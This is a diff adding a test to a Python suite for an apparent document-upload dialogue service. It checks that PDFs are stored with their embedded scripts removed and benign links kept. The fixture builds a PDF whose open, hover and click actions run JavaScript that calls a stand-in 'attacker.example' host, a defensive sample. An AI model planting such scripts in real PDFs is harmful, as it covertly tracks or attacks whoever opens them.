@@ -494,3 +494,40 @@ async def test_a_small_pdf_whose_structure_inflates_to_tens_of_megabytes_is_refu
     assert answer.startswith("这个PDF文件的内部结构过于庞大，无法接收。请把它打印或导出为一个新的PDF后再发送，"
                              "或只发送相关页面的截图。\n第5步")
     assert (_files(harness), await _stored(harness)) == ([], [])
+
+
+def _pdf_with_scripts() -> bytes:
+    """A one-page PDF that runs a script when its page is opened and when a link on it is pointed at or clicked;
+    a second link opens a web address."""
+    script = b"<</S/JavaScript/JS(app.launchURL\\('https://attacker.example/seen'\\))>>"
+    objects = [b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>",
+               b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/AA<</O 6 0 R>>/Annots[4 0 R 5 0 R]>>",
+               b"<</Type/Annot/Subtype/Link/Rect[0 0 50 50]/A 6 0 R/AA<</E 6 0 R>>>>",
+               b"<</Type/Annot/Subtype/Link/Rect[50 50 90 90]/A<</S/URI/URI(https://example.org/permit)>>>>",
+               script]
+    body, offsets = b"%PDF-1.4\n", []
+    for number, content in enumerate(objects, start=1):
+        offsets.append(len(body))
+        body += b"%d 0 obj" % number + content + b"endobj\n"
+    table = b"xref\n0 7\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    return body + table + b"trailer<</Size 7/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(body)
+
+
+async def test_a_pdf_is_kept_without_the_scripts_its_page_and_links_would_run_for_whoever_opens_it(
+        harness: DialogHarness) -> None:
+    """A script run when staff open the page can tell the sender who opened it and when (or worse)."""
+    from pypdf import PdfReader
+
+    await _to_evidence(harness)
+
+    answer = await _upload(harness, Download(_pdf_with_scripts()), media_type="application/pdf")
+
+    assert answer.startswith(RECEIVED)
+    [content] = _files(harness)
+    [page] = PdfReader(io.BytesIO(content)).pages
+    assert "/AA" not in page
+    first, second = (annotation.get_object() for annotation in page["/Annots"])
+    assert "/A" not in first and "/AA" not in first
+    assert second["/A"]["/URI"] == "https://example.org/permit"  # what the page links to is part of what it shows
+    assert b"JavaScript" not in content and b"attacker" not in content
